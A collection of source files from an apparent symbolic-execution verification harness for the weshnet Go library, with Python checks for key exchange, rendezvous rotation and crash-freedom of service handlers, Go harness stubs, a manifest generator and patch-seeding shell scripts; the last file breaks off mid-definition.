package secretstore

import crand "crypto/rand"

func verifCrand(b []byte) (int, error) { return crand.Read(b) }
