#!/usr/bin/env python3
"""C05: chain-key announcements are recipient-only and exact (cryptographic part)."""
import sys, os
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import *
from wesym.contracts import crypto
from wesym import terms as T
import c01


def install(I):
    def secret_box_key(I, args, ins):
        priv, pub = args
        sa = T.app('edpriv2x', priv.v.s)
        a = T.is_app(pub.v.t, 'pk')
        if a is None:
            raise Inconclusive('verif_secretBoxKey needs an honest public key')
        sb = T.app('edpriv2x', a[0])
        x, y = (sa, sb) if sa.sexpr() <= sb.sexpr() else (sb, sa)
        k = T.app('hs', T.app('dhs', x, y))
        crypto.secret_keys(I).setdefault(k.sexpr(), (k, []))
        return None
    I.intrinsics['verif_secretBoxKey'] = secret_box_key


def _c05_coop(pre, I):
    from wesym import coop
    coop.install(I, preemptions=pre)


def main():
    t = tier()
    chk = Check('C05', c01.PKGS, 'pkg/secretstore',
                ['secretstore/zz_verif_env.go', 'secretstore/zz_verif_rand.go', 'C05/zz_verif_c05.go'],
                installers=[crypto.install, crypto.install_proto, install], init_pkgs=[MOD + '/pkg/errcode'], prelude_pkgname='secretstore')
    P = MOD + '/pkg/secretstore.'
    chk.load([P + n for n in ('VerifC05Exact', 'VerifC05WrongParty', 'VerifC05Tamper', 'VerifC05Witness')])
    cfg = {'timeout_ms': 60000, 'unwind': 12, 'dec_as_term': True}
    jobs = []
    for gt in (1, 2, 3):
        jobs.append(Job(P + 'VerifC05Exact', (gt,), cfg=cfg))
        jobs.append(Job(P + 'VerifC05Tamper', (gt,), cfg=cfg))
    jobs.append(Job(P + 'VerifC05WrongParty', (), cfg=cfg))
    jobs.append(Job(P + 'VerifC05Witness', (), witness=True, cfg=cfg))
    res = chk.run_jobs(jobs)
    chk.cleanup()
    # distribution half: real MetadataStore / index / GroupContext handlers over the log contract (root package)
    import c03
    from wesym.contracts import orbit, seqchan
    chk2 = c03.root_check('C05', ['C05/zz_verif_c05_dist.go'], extra_installers=[seqchan.install, orbit.install_relay])
    PR = MOD + '.'
    chk2.load([PR + 'VerifC05Distribute'])
    dgrid = [(0, 0, 1), (1, 0, 1), (2, 1, 1), (2, 2, 1), (2, 3, 2)] if t == 'quick' else [(0, 0, 1), (0, 1, 1), (0, 2, 4), (1, 0, 1), (1, 1, 2), (2, 1, 1), (2, 2, 1), (2, 3, 2), (2, 4, 4)]
    dj = []
    for (sc, st, K) in dgrid:
        for i in range(K):
            dj.append(Job(PR + 'VerifC05Distribute', (sc, st), cfg=cfg, max_paths=400000, shard=(i, K) if K > 1 else None,
                          label='VerifC05Distribute(%d,%d)#%d/%d' % (sc, st, i, K)))
    res += chk2.run_jobs(dj)
    chk2.cleanup()
    # exactness under concurrent FIRST use of a group (the own chain key is created lazily): the harness of C09 under the
    # symbolic scheduler -- every announcement handed out describes the chain key the device really uses
    import functools, c02
    from wesym import coop as _coop
    chk3 = Check('C05', c01.PKGS, 'pkg/secretstore',
                 ['secretstore/zz_verif_env.go', 'secretstore/zz_verif_rand.go', 'C09/zz_verif_c09_coop.go'],
                 installers=[crypto.install, crypto.install_proto, c02.install], init_pkgs=[MOD + '/pkg/errcode'], prelude_pkgname='secretstore')
    chk3.load([P + 'VerifC09FirstUse'])
    FK = 4
    res += chk3.run_jobs([Job(P + 'VerifC09FirstUse', (0,), cfg=cfg, installers=[functools.partial(_c05_coop, 2)], shard=(i, FK), max_paths=400000,
                              label='VerifC09FirstUse(0)[pre<=2]#%d/%d' % (i, FK)) for i in range(FK)])
    chk = chk3
    finish(chk, res, t,
           explanation='Symbolic execution of GetShareableChainKey / encryptDeviceChainKey / decryptDeviceChainKey / groupIDToNonce / '
                       'RegisterChainKey / EdwardsToMontgomery over the term algebra (X25519 symmetric for honest points, box = sbox under '
                       'hs(dh)): exactness at an arbitrary sender state (free counter), every wrong member / group / claimed-sender '
                       'combination over three principals and two groups sharing the same keys, and INT-CTXT tamper rejection. '
                       'The distribution half of the property (every device ends up with every key at quiescence) needs OrbitDB event '
                       'delivery and is not decided here.',
           bounds={'principals': 3, 'groups': 2, 'group_types': 'account, contact, multi-member', 'sender_state': 'free counter, fresh chain key',
                   'outside': 'distribution at quiescence across replicas (OrbitDB); 192-bit prefix collisions between group ids; the primitives'},
           assumptions=['X25519 free and symmetric for honest keys', 'Ed25519->X25519 conversion contracts: edpub2x(pk(s)) = xpub(edpriv2x(s))',
                        'INT-CTXT for the box key declared secret'],
           trusted=['go/ssa lowering', 'wesym interpreter + contracts', 'z3 5.1.0 (+cross-check)'])


if __name__ == '__main__':
    main()
