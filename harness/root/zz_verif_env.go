package weshnet

import (
	"context"

	"github.com/ipfs/go-cid"
	"github.com/ipfs/go-datastore"
	keystore "github.com/ipfs/go-ipfs-keystore"
	"github.com/libp2p/go-libp2p/core/crypto"
	"go.uber.org/zap"

	ipfslog "berty.tech/go-ipfs-log"
	"berty.tech/go-orbit-db/iface"
	"berty.tech/go-orbit-db/stores/basestore"
	"berty.tech/weshnet/v2/pkg/ipfsutil"
	"berty.tech/weshnet/v2/pkg/protocoltypes"
	"berty.tech/weshnet/v2/pkg/secretstore"
)

func verif_datastore(name string) datastore.Datastore         { panic("intrinsic") }

func verifKeystore(name string) keystore.Keystore {
	return ipfsutil.NewDatastoreKeystore(verif_datastore(name + ".keystore"))
}
func verif_background() context.Context                       { panic("intrinsic") }
func verif_anyCid(name string) cid.Cid                        { panic("intrinsic") }
func verif_honestKey(k crypto.PrivKey)                        { panic("intrinsic") }
func verif_secretSymKey(k []byte)                             { panic("intrinsic") }
func verif_bindStore(b *basestore.BaseStore, i iface.StoreIndex) { panic("intrinsic") }
func verif_storeLog(b *basestore.BaseStore) ipfslog.Log       { panic("intrinsic") }
func verif_appended() int                                     { panic("intrinsic") }
func verif_newLog() ipfslog.Log                               { panic("intrinsic") }
func verif_logAppend(l ipfslog.Log, value []byte) ipfslog.Entry { panic("intrinsic") }
func verif_logPermute(l ipfslog.Log)                          { panic("intrinsic") }
func verif_logCopy(l ipfslog.Log) ipfslog.Log                 { panic("intrinsic") }
func verif_logView(l ipfslog.Log) ipfslog.Log                 { panic("intrinsic") }
func verif_logShare(dst ipfslog.Log, e ipfslog.Entry) bool    { panic("intrinsic") }

func verifSecretStore(name string) secretstore.SecretStore {
	s, err := secretstore.NewSecretStore(verif_datastore(name), &secretstore.NewSecretStoreOptions{
		Keystore:                           verifKeystore(name),
		PreComputedKeysCount:               2,
		PrecomputeOutOfStoreGroupRefsCount: 1,
	})
	verif_assume(err == nil && s != nil)
	return s
}

// verifMetadataStore builds a real MetadataStore + real metadataStoreIndex over the BaseStore contract for `g`.
func verifMetadataStore(ss secretstore.SecretStore, g *protocoltypes.Group) *MetadataStore {
	md, err := ss.GetOwnMemberDeviceForGroup(g)
	verif_assume(err == nil)
	raw, err := md.Device().Raw()
	verif_assume(err == nil)
	m := &MetadataStore{group: g, memberDevice: md, devicePublicKeyRaw: raw, secretStore: ss, logger: zap.NewNop()}
	idx := newMetadataIndex(verif_background(), g, md, ss)(g.PublicKey)
	verif_bindStore(&m.BaseStore, idx)
	return m
}

func verifAccountStore(name string) (*MetadataStore, secretstore.SecretStore) {
	ss := verifSecretStore(name)
	g, _, err := ss.GetGroupForAccount()
	verif_assume(err == nil)
	return verifMetadataStore(ss, g), ss
}

func verifFreshKey() (crypto.PrivKey, crypto.PubKey) {
	sk, pk, err := crypto.GenerateEd25519Key(nil)
	verif_assume(err == nil)
	return sk, pk
}
