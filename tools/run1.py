#!/usr/bin/env python3
"""debug: run one job of a check in-process.  usage: tools/run1.py c01 VerifC01RoundTrip 3"""
import sys, os, importlib, json
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), '..', 'checks'))
import common
mod = importlib.import_module(sys.argv[1])
captured = {}
def fake_run_jobs(self, jobs, procs=None):
    want = sys.argv[2]
    args = tuple(int(a) for a in sys.argv[3:])
    out = []
    for j in jobs:
        if j.entry.endswith('.' + want) and (not args or j.args == args):
            r = self._run_in_thread(j)
            for v in r['violations']:
                v.pop('path', None)
            if len(r['violations']) > 6 and not os.environ.get('RUN1_ALL'):
                r['violations_total'] = len(r['violations'])
                r['violations'] = r['violations'][:6]
            print(json.dumps({k: v for k, v in r.items() if k not in ('smt2', 'funcs', 'samples', 'contracts')}, indent=1, default=str))
            out.append(r)
            self.cleanup()
            sys.exit(0)
    return []
common.Check.run_jobs = fake_run_jobs
mod.main()
