#!/usr/bin/env python3
"""C17: rendezvous points are deterministic, agreed between peers, and rotate on time (symbolic clock)."""
import sys, os
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import *
from wesym.contracts import timec


def main():
    t = tier()
    chk = Check('C17', [MOD + '/pkg/rendezvous', 'encoding/binary'], 'pkg/rendezvous', ['C17/zz_verif_c17.go'],
                installers=[timec.install, timec.install_mac], prelude_pkgname='rendezvous')
    P = MOD + '/pkg/rendezvous.'
    names = ('VerifC17Round', 'VerifC17Digest', 'VerifC17Resolve', 'VerifC17Agree', 'VerifC17Grace', 'VerifC17Refuse', 'VerifC17Witness')
    chk.load([P + n for n in names])
    cfg = {'timeout_ms': 60000}
    IVS = [1, 2, 3600, 86400] if t == 'quick' else [1, 2, 3, 7, 60, 3600, 86400, 604800, 1 << 31]
    jobs = []
    for iv in IVS:
        jobs.append(Job(P + 'VerifC17Round', (iv,), cfg=cfg))
        jobs.append(Job(P + 'VerifC17Round', (-iv,), cfg=cfg))
        jobs.append(Job(P + 'VerifC17Digest', (iv,), cfg=cfg))
        jobs.append(Job(P + 'VerifC17Resolve', (iv, 1), cfg=cfg))
        jobs.append(Job(P + 'VerifC17Resolve', (iv, 2), cfg=cfg))
        if t == 'thorough':
            jobs.append(Job(P + 'VerifC17Resolve', (iv, 3), cfg=cfg))
        jobs.append(Job(P + 'VerifC17Agree', (iv,), cfg=cfg))
        jobs.append(Job(P + 'VerifC17Grace', (iv,), cfg=cfg))
        jobs.append(Job(P + 'VerifC17Refuse', (iv,), cfg=cfg))
    jobs.append(Job(P + 'VerifC17Witness', (2,), witness=True, cfg=cfg))
    res = chk.run_jobs(jobs)
    finish(chk, res, t,
           explanation='Bounded symbolic execution of pkg/rendezvous (rendezvous.go, rotation.go) with the clock as a solver variable: '
                       'time.Now()/time.Until() return successive elements of a free non-decreasing sequence of instants '
                       '(mathematical integers: seconds and nanoseconds), the interval ranges over a stated finite set of whole seconds, '
                       'time.AfterFunc records its timer so that the harness decides when it fires. HMAC-SHA256, base64 and the '
                       'big-endian period encoding are free injective constructors. Range obligations guard every Int-mode operation.',
           bounds={'clock_readings': '<= 12 per scenario, any non-decreasing values in [0, 2^33) s', 'interval': 'each of %s seconds (either sign for the pure functions); a free symbolic interval makes (t/I)*I non-linear and was undecided after 15 min' % IVS,
                   'peers': 2, 'lookups': '1..%d per scenario' % (3 if t == 'thorough' else 2),
                   'outside': 'sub-second intervals (RoundTimePeriod divides by zero below 1 s), float rounding of Duration.Seconds() for non-whole seconds, '
                              'instants beyond 2^33 s, collisions of topic||seed concatenation, HMAC itself; OrbitDBMessageMarshaler head exchange'},
           assumptions=['time.Now is non-decreasing', 'HMAC-SHA256 / base64 are injective (free algebra)', 'append(topic, seed) is treated as an injective pair'],
           trusted=['go/ssa lowering', 'wesym interpreter + clock contract', 'z3 5.1.0 (+ cross-check)'])


if __name__ == '__main__':
    main()
