#!/bin/sh
# usage: tools/seedwt.sh <id> <patch.diff> <check.py> [tier]
# tries a seeded change in a scratch worktree of /repo (VERIF_REPO) with outputs redirected (VERIF_OUT), so it can
# run beside other checks; equivalent to tools/seedrun.sh (apply to /repo, run, revert), which is what DESIGN.md cites.
id=$1; p=$2; c=$3; t=${4:-quick}
wt=/tmp/swt_${id}_$$; out=/tmp/swo_${id}_$$
export GOFLAGS=-mod=mod GOPROXY=off
git -C /repo worktree add --detach $wt HEAD >/dev/null 2>&1 || exit 3
[ -s $p ] && { git -C $wt apply $p || { git -C /repo worktree remove --force $wt; exit 3; }; }
mkdir -p $out
cd /verif && VERIF_REPO=$wt VERIF_OUT=$out timeout 3000 python3-vt checks/$c $t 2>&1 | grep -E "^(VIOLATION|INCONCLUSIVE|KNOWN|C[0-9]+ )|assertion" | cut -c1-300 | head -${5:-10}
cd /; git -C /repo worktree remove --force $wt; rm -rf $out
