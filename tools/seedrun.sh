#!/bin/sh
# usage: tools/seedrun.sh <patch.diff> <check.py> [tier]  -- applies the seeded change to /repo, runs the check, reverts
p=$1; c=$2; t=${3:-quick}
git -C /repo apply $p || exit 3
cd /verif && timeout 3000 python3-vt checks/$c $t 2>&1 | grep -E "^(VIOLATION|INCONCLUSIVE|KNOWN|C[0-9]+ )|assertion" | cut -c1-260 | head -${4:-8}
git -C /repo checkout -- . 
