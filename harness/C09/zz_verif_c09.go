package secretstore

import (
	"google.golang.org/protobuf/proto"

	"berty.tech/weshnet/v2/pkg/protocoltypes"
)

func verif_go(name string, f func())        { panic("intrinsic") }
func verif_runThreads()                      { panic("intrinsic") }
func verif_observe(name string, v uint64)    { panic("intrinsic") }
func verif_observeBytes(name string, v []byte) { panic("intrinsic") }
func verif_freeze(p any)                     { panic("intrinsic") }

// VerifC09Concurrent: `senders` goroutines each seal `per` messages on the same group through the real SealEnvelope;
// every datastore operation and every operation on messageMutex is a visible step; the schedule is a solver variable.
// Final-state assertions over the observed header counters: pairwise distinct, exactly {n+1 .. n+total}, and the stored
// chain counter is n+total; the stored counter read back by each sender never decreases.
func VerifC09Concurrent(senders, per, sameGroup int) {
	ctx := verif_background()
	s := verifNewStore("snd", 2)
	rcv := verifNewStore("rcv", 2)
	g := verifGroup(s, rcv, 3)
	g2 := verifGroup(s, rcv, 3)
	// the chain keys exist before the goroutines start
	_, err := s.getOwnDeviceChainKeyForGroup(ctx, g)
	verif_assume(err == nil)
	_, err = s.getOwnDeviceChainKeyForGroup(ctx, g2)
	verif_assume(err == nil)
	// the groups and the store's configuration are immutable while the goroutines run (a write is reported)
	verif_freeze(g)
	verif_freeze(g2)
	verif_freeze(&s.preComputedKeysCount)
	verif_freeze(s.deviceKeystore)
	verif_freeze(&per)
	verif_freeze(&ctx)
	for t := 0; t < senders; t++ {
		grp := g
		if sameGroup == 0 && t == 1 {
			grp = g2
		}
		verif_go("sender", func() {
			for i := 0; i < per; i++ {
				pay, _ := proto.Marshal(&protocoltypes.EncryptedMessage{Plaintext: verif_anyBytesNonNil("plain")})
				env, err := s.SealEnvelope(ctx, grp, pay)
				verif_assert(err == nil, "C09: concurrent seal succeeds")
				if err != nil {
					return
				}
				_, h, err := s.OpenEnvelopeHeaders(env, grp)
				verif_assert(err == nil, "C09: sealed headers open")
				if err != nil {
					return
				}
				verif_observe("counter", h.Counter)
				verif_observeBytes("group", grp.PublicKey)
			}
		})
	}
	verif_runThreads()
	verif_reach("C09.conc.ok")
}
