#!/usr/bin/env python3
"""Writes /verif/MANIFEST.json from the table below and validates it (python3-vt tools/mkmanifest.py)."""
import json, os, sys
ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
TECH = 'bounded symbolic execution of go/ssa (own encoder) + SMT (z3 5.1; cvc5/z3 4.8 cross-check)'

CLAIMED = {
    'C13': dict(
        text='Bounded symbolic execution of getEntriesInRange / iterateOverEntries / checkParametersConsistency from the '
             'current source (go/ssa -> wesym -> z3): every since/until choice (nil, each entry, unknown id), free opaque ids, '
             'free reverse flag and all five parameter flags; the solver decides every assertion for all values within '
             'lists of 0..4 (quick) / 0..7 (thorough) entries. The order SOURCE of ListEvents is outside this check.',
        note='Trusted: go/ssa lowering, the wesym interpreter, contracts for cid/ipfs-log entries (pairwise distinct non-empty ids), z3. '
             'Outside: longer lists, the goroutine/channel relay, OpLog ordering (see DESIGN C13/C04 findings).',
        design='6/C13'),
}

CLAIMED['C18'] = dict(
    text='Bounded symbolic execution of the varint and uint32 delimited writers/readers together with the real bufio.Reader, '
         'io.ReadFull and encoding/binary bodies: message bodies and raw streams are vectors of free bytes, every Read of the '
         'underlying stream returns a free number of bytes (chunking is a solver variable), allocation sizes are observed at '
         'MakeSlice. Round trip incl. buffer reuse, limit+1 refusal without over-allocation, and a differential reference '
         'decoder on arbitrary streams; every Go run-time panic on any path is a violation.',
    note='Bounds: <=2 frames, bodies <=2 (quick) / <=3 (thorough) bytes, arbitrary streams <=5/8 bytes (varint) and <=7/10 (uint32), '
         'maxSize 0..4. proto.Marshal/Unmarshal are contracts (copy the body). Outside: 2048-byte limit with long frames, gogo MarshalTo fast path.',
    design='6/C18')
CLAIMED['C15'] = dict(
    text='Sequential contract of both queues by bounded symbolic execution with the real container/heap and container/list: '
         'free 64-bit counters (all orders and ties of up to 4/5 items), adds split at every position, FIFO/exactly-once, '
         'cancelled wait. The concurrent part (lost wake-up) is decided by the schedule-symbolic BMC when registered; see level_note.',
    note='Sequential harnesses only at this commit; single goroutine (a blocking select with no ready case is reported as deadlock).',
    design='6/C15')
CLAIMED['C17'] = dict(
    text='Bounded symbolic execution of pkg/rendezvous with the clock as a solver variable (time.Now/Until = free non-decreasing '
         'instants over mathematical integers with range obligations, AfterFunc recorded), HMAC/base64 as free constructors: '
         'period rounding, digest determinism/separation, resolution across deadlines, agreement of two peers, grace period, refusals.',
    note='Intervals from a stated finite set of whole seconds (a free interval makes (t/I)*I non-linear: undecided); instants in [0,2^33) s; '
         '<=12 clock readings; topic||seed concatenation treated as injective; OrbitDBMessageMarshaler not included.',
    design='6/C17')

NOT_APPLICABLE = {}
ALL = ['C%02d' % i for i in range(1, 21)]
PENDING_REASON = 'no solver-based check registered yet for this property in the current state of /verif (see DESIGN.md section 9)'


def main():
    checks = []
    for pid in ALL:
        if pid not in CLAIMED:
            continue
        c = CLAIMED[pid]
        low = pid.lower()
        checks.append({
            'property_id': pid,
            'quick_cmd': 'python3-vt checks/%s.py quick' % low,
            'thorough_cmd': 'python3-vt checks/%s.py thorough' % low,
            'evidence_file': 'evidence/%s.json' % pid,
            'replay_cmd_template': 'python3-vt checks/replay.py {path}',
            'engine': 'wesym',
            'level_claimed': {'category': 'other', 'text': c['text'], 'design_ref': c['design']},
            'level_note': c['note'],
            'technique': c.get('technique', TECH),
        })
    na = []
    for pid in ALL:
        if pid in CLAIMED:
            continue
        na.append({'property_id': pid, 'reason': NOT_APPLICABLE.get(pid, PENDING_REASON)})
    m = {
        'version': 1,
        'setup_cmd': './setup.sh',
        'hooks': {'guard': 'verif', 'enable': 'none needed: harnesses and replay tests enter through build overlays (packages.Config.Overlay, go test -overlay); no file of /repo is changed',
                  'baseline_off_cmd': 'cd /repo && GOFLAGS=-mod=mod GOPROXY=off go test -vet=off -count=1 -timeout 25m ./...',
                  'source_commits': [], 'add_only': True},
        'engines': [{'name': 'wesym', 'path': 'engine', 'serves_properties': sorted(CLAIMED),
                     'kind_free_text': 'Go front end (go/packages + go/ssa, x/tools v0.50.0) dumping SSA of the current /repo tree; Python path-forking symbolic interpreter; z3 5.1 decides, cvc5 1.0 and z3 4.8.12 re-decide final queries'}],
        'checks': checks,
        'not_applicable': na,
        'notes': 'Exit codes: 0 held within bounds; 1 + VIOLATION line; 2 + INCONCLUSIVE line (encoder cannot decide: never a pass). Known genuine defects are listed in known_findings.json.',
    }
    with open(os.path.join(ROOT, 'MANIFEST.json'), 'w') as f:
        json.dump(m, f, indent=1)
    try:
        import jsonschema
        jsonschema.validate(m, json.load(open('/root/.vp/MANIFEST.schema.json')))
        print('MANIFEST.json valid;', len(checks), 'checks;', len(na), 'not applicable')
    except ImportError:
        print('jsonschema not available; not validated')


if __name__ == '__main__':
    main()
