#!/usr/bin/env python3
"""C19: no request can crash the service."""
import sys, os
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from common import *
import c03
from wesym.contracts import timec
from wesym.values import *
from wesym.contracts.base import mk_error
from wesym import terms as T
import z3

HANDLERS = ['ContactRequestReference', 'ContactRequestDisable', 'ContactRequestEnable', 'ContactRequestResetReference',
            'ContactRequestSend', 'ContactRequestAccept', 'ContactRequestDiscard', 'ShareContact', 'DecodeContact',
            'ContactBlock', 'ContactUnblock', 'ContactAliasKeySend', 'MultiMemberGroupJoin', 'MultiMemberGroupLeave',
            'AliasResolverDisclose', 'InvitationCreate', 'AppMetadataSend', 'AppMessageSend', 'OutOfStoreReceive',
            'OutOfStoreSeal', 'GroupInfo', 'CredentialInitFlow', 'CredentialCompleteFlow', 'VerifiedCredentialsList']
# handlers that only make sense without an opened message store in the harness state (state 2 has none)
MAX_STATE = {'AppMessageSend': 0, 'OutOfStoreSeal': 0}


def install(I):
    from wesym.contracts.base import mk_error as _mkerr
    W = '(*berty.tech/weshnet/v2.WeshOrbitDB).'
    I.contracts[W + 'OpenGroup'] = lambda I, a, ins: (None, _mkerr(I, 'orbitdb: open group (outside the encoding)'))
    I.contracts[W + 'openAccountGroup'] = lambda I, a, ins: (None, _mkerr(I, 'orbitdb: open account group (outside the encoding)'))
    def fill(I, t, name, depth):
        u = t.under()
        if u.kind == 'basic':
            if t.isstring():
                nm = I.fresh_name(name)
                if I.fork_bool(I.fresh_bool(nm + '.empty'), 'str-empty'):
                    return ''
                tt = I.fresh_term(nm, minlen=1)
                I.register_input(name, tt)
                return SymStr(tt)
            if t.isbool():
                b = I.fresh_bool(name)
                I.register_input(name, b)
                return b
            if t.isint():
                bits, _ = t.intinfo()
                v = I.fresh_bv(name, bits)
                I.register_input(name, v)
                return v
            return I.zero(t)
        if u.kind == 'slice':
            et = u.elemt()
            if et.isint() and et.intinfo()[0] == 8:
                return I.intrinsics['verif_anyBytes'](I, [name], None)
            return None
        if u.kind == 'pointer':
            st = u.elemt()
            if st.under().kind != 'struct' or depth >= 2:
                return None
            nil = I.fresh_bool(name + '.nil')
            I.register_input(name + '.nil', nil)
            if I.fork_bool(nil, 'submsg-nil'):
                return None
            sv = I.zero(st)
            fill_struct(I, st, sv, name, depth + 1)
            return Ptr([sv], 0)
        return I.zero(t)

    def fill_struct(I, st, sv, name, depth):
        for i, f in enumerate(st.under().fields):
            if f['name'] in ('state', 'sizeCache', 'unknownFields'):
                continue
            sv[i] = fill(I, I.prog.types[f['t']], '%s.%s' % (name, f['name']), depth)

    def fill_any(I, args, ins):
        p = args[0]
        if not isinstance(p, Iface) or p.v is None:
            return None
        t = I.prog.types[p.tid]
        st = t.under().elemt()
        fill_struct(I, st, p.v.load(), 'req', 0)
        return None

    I.intrinsics['verif_fillAny'] = fill_any

    TY = 'berty.tech/weshnet/v2/pkg/tyber.'
    noop = PyFunc(lambda I, a: None, 'endSection')
    I.contracts[TY + 'Section'] = lambda I, a, ins: (a[0], False, noop)
    I.contracts[TY + 'SectionWithTraceID'] = lambda I, a, ins: (a[0], False, noop)
    cancel = PyFunc(lambda I, a: None, 'cancel')
    I.contracts['context.WithTimeout'] = lambda I, a, ins: (a[0], cancel)
    I.contracts['context.WithCancel'] = lambda I, a, ins: (a[0], cancel)
    I.contracts['berty.tech/weshnet/v2/pkg/bertyvcissuer.NewClient'] = lambda I, a, ins: Ptr([Native('vcclient')], 0)
    I.contracts['(*berty.tech/weshnet/v2/pkg/bertyvcissuer.Client).Init'] = lambda I, a, ins: ('', mk_error(I, 'vc issuer unreachable'))
    I.contracts['(*berty.tech/weshnet/v2/pkg/bertyvcissuer.Client).Complete'] = lambda I, a, ins: ('', '', None, mk_error(I, 'vc issuer unreachable'))
    I.contracts['berty.tech/weshnet/v2/pkg/cryptoutil.NewFuncSigner'] = lambda I, a, ins: None
    I.contracts['(*sync.WaitGroup).Wait'] = lambda I, a, ins: None


def install_cipher(I):
    """crypto/aes + crypto/cipher by contract: constructors validate sizes as documented, Open fails or returns bytes"""
    C, M = I.contracts, I.methods

    def new_cipher(I, args, ins):
        n = I.len_of(args[0])
        if n not in (16, 24, 32):
            return (None, mk_error(I, 'crypto/aes: invalid key size'))
        return (Iface(-60, Native('aesblock', as_iface=True)), None)

    def new_gcm(I, args, ins):
        return (Iface(-61, Native('gcm', as_iface=True)), None)

    def gcm_seal(I, args, ins):
        g, dst, nonce, pt, ad = args
        if I.len_of(nonce) != 12:
            raise GoPanic('panic', 'crypto/cipher: incorrect nonce length given to GCM', ins.get('pos', ''))
        n = I.len_of(pt) + 16
        out = [I.fresh_bv('gcm-ct', 8) for _ in range(n)]
        pre = list(dst.elems()) if dst is not None else []
        el = pre + out
        return SliceVal(AV(el), 0, len(el), len(el))

    def gcm_open(I, args, ins):
        g, dst, nonce, ct, ad = args
        if I.len_of(nonce) != 12:
            raise GoPanic('panic', 'crypto/cipher: incorrect nonce length given to GCM', ins.get('pos', ''))
        n = I.len_of(ct)
        if n < 16 or not I.fork_bool(I.fresh_bool('gcm-auth-ok'), 'gcm-open'):
            return (None, mk_error(I, 'cipher: message authentication failed'))
        el = [I.fresh_bv('gcm-pt', 8) for _ in range(n - 16)]
        return (SliceVal(AV(el), 0, len(el), len(el)), None)

    def new_ctr(I, args, ins):
        block, iv = args
        if I.len_of(iv) != 16:
            raise GoPanic('panic', 'cipher.NewCTR: IV length must equal block size', ins.get('pos', ''))
        return Iface(-62, Native('ctr', as_iface=True))

    C['crypto/aes.NewCipher'] = new_cipher
    C['crypto/cipher.NewGCM'] = new_gcm
    C['crypto/cipher.NewCTR'] = new_ctr
    M[('gcm', 'NonceSize')] = lambda I, a, ins: 12
    M[('gcm', 'Overhead')] = lambda I, a, ins: 16
    M[('gcm', 'Seal')] = gcm_seal
    M[('gcm', 'Open')] = gcm_open
    M[('aesblock', 'BlockSize')] = lambda I, a, ins: 16

    def rand_read(I, args, ins):
        b = args[-1]
        n = I.len_of(b)
        for i in range(n):
            b.arr[b.off + i] = I.fresh_bv('rand', 8)
        return (n, None)
    C['crypto/rand.Read'] = rand_read


def cryptoutil_jobs(t):
    chk = Check('C19', [MOD + '/pkg/cryptoutil', MOD + '/pkg/errcode'], 'pkg/cryptoutil', ['C19/zz_verif_c19_cryptoutil.go'],
                installers=[install_cipher], init_pkgs=[MOD + '/pkg/errcode'], prelude_pkgname='cryptoutil')
    P = MOD + '/pkg/cryptoutil.'
    chk.load([P + n for n in ('VerifC19AESGCMDecrypt', 'VerifC19AESGCMEncrypt', 'VerifC19SliceToArray', 'VerifC19AESCTR', 'VerifC19CryptoWitness')])
    jobs = []
    lens = [0, 1, 11, 12, 13, 27, 28, 29, 40] if t == 'quick' else list(range(0, 45))
    for kl in (0, 16, 31, 32):
        for dl in lens:
            jobs.append(Job(P + 'VerifC19AESGCMDecrypt', (kl, dl)))
    for dl in (0, 1, 5):
        jobs.append(Job(P + 'VerifC19AESGCMEncrypt', (32, dl)))
    for n in (0, 1, 23, 24, 25, 31, 32, 33):
        jobs.append(Job(P + 'VerifC19SliceToArray', (n,)))
    for kl in (-1, 0, 16, 32):
        for il in (-1, 0, 15, 16, 17):
            jobs.append(Job(P + 'VerifC19AESCTR', (kl, il)))
    jobs.append(Job(P + 'VerifC19CryptoWitness', (), witness=True))
    res = chk.run_jobs(jobs)
    chk.cleanup()
    return res, chk


def main():
    t = tier()
    cres, cchk = cryptoutil_jobs(t)
    chk = c03.root_check('C19', ['root/zz_verif_rand.go', 'C19/zz_verif_c19.go'], extra_installers=[install, timec.install])
    P = MOD + '.'
    names = ['VerifC19' + h for h in HANDLERS] + ['VerifC19ActivateGroup', 'VerifC19DeactivateGroup', 'VerifC19Witness']
    chk.load([P + n for n in names])
    cfg = {'timeout_ms': 60000, 'unwind': 40}
    jobs = []
    for h in HANDLERS:
        for st in range(0, MAX_STATE.get(h, 2) + 1):
            jobs.append(Job(P + 'VerifC19' + h, (st,), cfg=cfg, max_paths=50000))
    for st in (0, 1, 2):
        for which in (0, 1, 2, 3):
            jobs.append(Job(P + 'VerifC19ActivateGroup', (st, which), cfg=cfg, max_paths=50000))
    jobs.append(Job(P + 'VerifC19DeactivateGroup', (0,), cfg=cfg, max_paths=50000))
    jobs.append(Job(P + 'VerifC19Witness', (), witness=True, cfg=cfg))
    res = chk.run_jobs(jobs) + cres
    chk.cleanup()
    # the listing handlers (GroupMessageList / GroupMetadataList) end in getEntriesInRange / iterateOverEntries with the
    # since / until ids of the request: every choice of them (nil, each entry, unknown id) on lists of 0..4 entries, no panic
    from wesym.contracts import orbit as _orbit, seqchan as _seqchan
    chk3 = c03.root_check('C19', ['C13/zz_verif_c13.go'], extra_installers=[_seqchan.install, _orbit.install_relay])
    chk3.load([P + 'VerifC13Range', P + 'VerifC13Iterate', P + 'VerifC13Params'])
    rj = []
    for n in range(0, (4 if t == 'quick' else 6) + 1):
        rj.append(Job(P + 'VerifC13Range', (n,)))
        rj.append(Job(P + 'VerifC13Iterate', (n,)))
    rj.append(Job(P + 'VerifC13Params', ()))
    res += chk3.run_jobs(rj)
    chk = chk3
    finish(chk, res, t,
           explanation='Symbolic execution of %d service handlers from their first instruction with an arbitrary request (every byte field nil or free '
                       'bytes of any length, strings/numbers/flags free, sub-messages nil or filled) in three service states (account group deactivated, '
                       'account group active, plus one multi-member group open), down to the BaseStore/secret-store contracts. Any Go run-time panic '
                       '(nil dereference, index/slice bounds, explicit panic, failed type assertion) on any feasible path is a violation; handlers that '
                       'need the account group must answer its absence with an error.' % len(HANDLERS),
           bounds={'handlers': HANDLERS, 'service_states': '3 (state 0 = accountGroupCtx nil, the state service.deactivateGroup leaves behind: service_group.go sets s.accountGroupCtx = nil)', 'request_depth': 2,
